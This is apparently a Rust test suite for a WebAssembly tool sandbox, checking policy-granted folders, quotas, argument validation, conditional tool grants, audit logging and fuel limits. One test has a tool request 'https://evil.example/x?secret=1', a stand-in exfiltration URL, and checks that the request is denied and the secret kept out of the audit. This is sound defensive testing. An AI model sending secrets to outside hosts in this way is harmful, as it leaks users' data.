//! Tools that ship, called under policies: what is granted works, and what is not is refused by the line that lacks.

use crate::stage::Stage;
use glasshouse_model::{Limit, Policy};
use glasshouse_sandbox::{
    CallError, ComponentError, Error, Granted, GuestFault, LoadError, RandomStream, ToolComponent, ToolRun,
    verify_audit,
};
use glasshouse_testing::guest;
use std::path::Path;

/// A component built on WASI that does to its folder what each of its functions says.
const WASI_FILES: &str = include_str!("../../../testing/guests/wat/wasi-files.wat");
const NOTHING: &str = "version = 1";
/// A tool that writes a file when it is asked what it offers.
const DEFINITIONS_WRITE: &str = include_str!("../../../testing/guests/wat/definitions-write.wat");

fn granted(policy: &str, folder: &Path) -> Granted {
    Granted::open(Policy::parse("policy.toml", policy).unwrap(), folder, |_| None).unwrap()
}

fn load(stage: &Stage, name: &str, granted: &Granted) -> ToolComponent {
    stage.load_tool(&guest(name), granted.policy()).unwrap()
}

fn call(granted: &Granted, tool: &ToolComponent, function: &str, arguments: &str) -> Result<String, Error> {
    run(granted, tool, function, arguments).outcome.unwrap()
}

fn run(granted: &Granted, tool: &ToolComponent, function: &str, arguments: &str) -> ToolRun {
    granted.call(tool, "files", function, arguments, RandomStream::new([1; 32]))
}

#[test]
fn a_workspace_is_in_memory_unless_a_folder_is_granted() {
    let stage = Stage::new(None);
    let folder = tempfile::tempdir().unwrap();
    let granted = granted(NOTHING, folder.path());
    let tool = load(&stage, "tool-workspace", &granted);
    call(&granted, &tool, "write", r#"{"path": "a/b.txt", "content": "one\ntwo\n"}"#).unwrap();
    let read = call(&granted, &tool, "read", r#"{"path": "a/b.txt"}"#).unwrap();
    assert!(read.contains("two"), "{read}");
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
}

#[test]
fn a_granted_folder_is_written_where_the_policy_says() {
    let stage = Stage::new(None);
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("work")).unwrap();
    let policy = "version = 1\n[[workspace]]\ndir = \"work\"\naccess = \"read-write\"\nquota = \"1KiB\"\n";
    let granted = granted(policy, folder.path());
    let tool = load(&stage, "tool-workspace", &granted);
    call(&granted, &tool, "write", r#"{"path": "work/x.txt", "content": "hello"}"#).unwrap();
    assert_eq!(std::fs::read_to_string(folder.path().join("work/x.txt")).unwrap(), "hello");
    let outside =
        call(&granted, &tool, "write", r#"{"path": "other/x.txt", "content": "hello"}"#).unwrap_err();
    assert!(matches!(&outside, Error::Denied(text) if text.contains("dir = \"other\"")), "{outside:?}");
    let large = format!(r#"{{"path": "work/y.txt", "content": "{}"}}"#, "x".repeat(2_000));
    let full = call(&granted, &tool, "write", &large).unwrap_err();
    assert!(matches!(full, Error::QuotaExceeded(_)), "{full:?}");
}

#[test]
fn arguments_are_checked_before_the_tool_sees_them() {
    let stage = Stage::new(None);
    let granted = granted(NOTHING, Path::new("."));
    let tool = load(&stage, "tool-workspace", &granted);
    for (arguments, wanted) in [
        ("{", "not JSON"),
        (r#"{"path": 7}"#, "/path"),
        (r#"{"path": "a", "pth": "b"}"#, "pth"),
        ("[]", "object"),
    ] {
        let run = run(&granted, &tool, "read", arguments);
        let error = run.outcome.unwrap().unwrap_err();
        assert!(
            matches!(&error, Error::InvalidArgument(text) if text.contains(wanted)),
            "{arguments}: {error:?}"
        );
        assert_eq!(run.bill.fuel, 0, "the tool did not run");
    }
}

#[test]
fn grants_of_tools_hold_for_names_and_arguments() {
    let stage = Stage::new(None);
    let policy = "version = 1\n[[tool]]\nname = \"files.write\"\nwhen = \"args.path.startsWith('notes/') && calls < 1\"\n";
    let granted = granted(policy, Path::new("."));
    let tool = load(&stage, "tool-workspace", &granted);
    let refused = |function: &str, arguments: &str| match call(&granted, &tool, function, arguments) {
        Err(Error::Denied(text)) => text,
        other => panic!("{other:?}"),
    };
    let other = refused("read", r#"{"path": "notes/a"}"#);
    assert!(other.contains("[[tool]]\nname = \"files.read\""), "{other}");
    let elsewhere = refused("write", r#"{"path": "a", "content": ""}"#);
    assert!(elsewhere.contains("policy.toml:4:1"), "{elsewhere}");
    let good = r#"{"path": "notes/a", "content": ""}"#;
    call(&granted, &tool, "write", good).unwrap();
    assert!(refused("write", good).contains("after 1 calls"));
}

#[test]
fn a_component_built_on_wasi_writes_its_folder_up_to_the_quota() {
    let stage = Stage::new(None);
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("granted")).unwrap();
    let policy =
        "version = 1\n[[workspace]]\ndir = \"granted\"\naccess = \"read-write\"\nquota = \"64KiB\"\n";
    let granted = granted(policy, folder.path());
    let component = wat::parse_str(WASI_FILES).unwrap();
    let tool = stage.load_tool(&component, granted.policy()).unwrap();
    assert_eq!(call(&granted, &tool, "flood", "{}").unwrap(), "16");
    let written = std::fs::metadata(folder.path().join("granted/flood")).unwrap();
    assert_eq!(written.len(), 64 * 1024);
    assert_eq!(call(&granted, &tool, "parents", "{}").unwrap(), "31");
    let mut lines = Vec::new();
    granted.write_audit(&mut lines).unwrap();
    let text = String::from_utf8(lines).unwrap();
    assert!(text.contains("\"what\":\"open to write granted/flood\""), "{text}");
    let refused =
        text.lines().find(|line| line.contains("write granted/flood\"") && line.contains("failure"));
    assert!(
        refused.is_some_and(|line| line.contains("65536 bytes; its quota is set at policy.toml:5:")),
        "{text}"
    );
}

/// What a guest does when it is asked what it offers comes before any decision about a call.
#[test]
fn nothing_is_granted_to_a_tool_that_is_asked_what_it_offers() {
    let stage = Stage::new(None);
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("work")).unwrap();
    let policy = "version = 1\n[[workspace]]\ndir = \"work\"\naccess = \"read-write\"\nquota = \"1KiB\"\n\
                  [[tool]]\nname = \"files.other\"\n";
    let granted = granted(policy, folder.path());
    let component = wat::parse_str(DEFINITIONS_WRITE).unwrap();
    let tool = stage.load_tool(&component, granted.policy()).unwrap();
    let refused = call(&granted, &tool, "work", "{}").unwrap_err();
    assert!(matches!(&refused, Error::Denied(_)), "{refused:?}");
    assert_eq!(std::fs::read_dir(folder.path().join("work")).unwrap().count(), 0);
}

#[test]
fn what_is_not_granted_is_not_linked() {
    let stage = Stage::new(None);
    let policy = Policy::parse("policy.toml", NOTHING).unwrap();
    let Err(ComponentError::Load(LoadError::NotGranted(missing))) =
        stage.load_tool(&guest("tool-http"), &policy)
    else {
        panic!("it must not load")
    };
    assert_eq!(missing.len(), 1);
    assert_eq!(missing[0].import, "glasshouse:capability/http@0.1.0");
    assert_eq!(missing[0].lines, Some("[[http]]\nhosts = [\"HOST\"]"));
}

#[test]
fn every_decision_is_in_the_audit() {
    let stage = Stage::new(None);
    let policy = "version = 1\n[[http]]\nhosts = [\"api.example.com\"]\n";
    let granted = granted(policy, Path::new("."));
    let tool = load(&stage, "tool-http", &granted);
    let refused = run(&granted, &tool, "fetch", r#"{"url": "https://evil.example/x?secret=1"}"#);
    assert!(refused.outcome.unwrap().is_err());
    let mut lines = Vec::new();
    granted.write_audit(&mut lines).unwrap();
    let text = String::from_utf8(lines.clone()).unwrap();
    assert!(text.contains("GET https://evil.example/x\"") && text.contains("\"denied\""), "{text}");
    assert!(!text.contains("secret=1"), "{text}");
    assert_eq!(verify_audit(&lines, Some(granted.audit_head())).unwrap(), granted.audit_head());
}

#[test]
fn a_denied_write_is_in_the_audit_with_the_line_that_denies_it() {
    let stage = Stage::new(None);
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("work")).unwrap();
    let granted = granted("version = 1\n[[workspace]]\ndir = \"work\"\n", folder.path());
    let tool = load(&stage, "tool-workspace", &granted);
    call(&granted, &tool, "write", r#"{"path": "work/x", "content": ""}"#).unwrap_err();
    let mut lines = Vec::new();
    granted.write_audit(&mut lines).unwrap();
    let text = String::from_utf8(lines).unwrap();
    let denied = text.lines().find(|line| line.contains("write work/x")).unwrap();
    assert!(denied.contains("\"denied\"") && denied.contains("policy.toml:2:"), "{denied}");
}

#[test]
fn limits_of_the_policy_end_a_call() {
    let stage = Stage::new(None);
    let policy = "version = 1\n[limits]\nfuel = 1000\n";
    let granted = granted(policy, Path::new("."));
    let tool = load(&stage, "tool-table", &granted);
    let run = run(&granted, &tool, "query", r#"{"sql": "SELECT 1 FROM t", "source": {"text": "a\n1\n"}}"#);
    assert!(
        matches!(run.outcome, Err(CallError::Guest(GuestFault::Limit(Limit::Fuel)))),
        "{:?}",
        run.outcome
    );
}
